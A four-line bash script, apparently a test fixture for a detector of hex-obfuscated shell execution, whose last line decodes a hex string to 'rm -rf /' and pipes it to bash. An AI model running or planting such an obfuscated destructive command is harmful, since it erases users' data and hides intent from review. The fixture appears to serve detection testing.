#!/bin/bash
# shows: hexadecimal
# expect: decoded-to-shell at line 4
xxd -r -p <<< 726d202d7266202f | bash
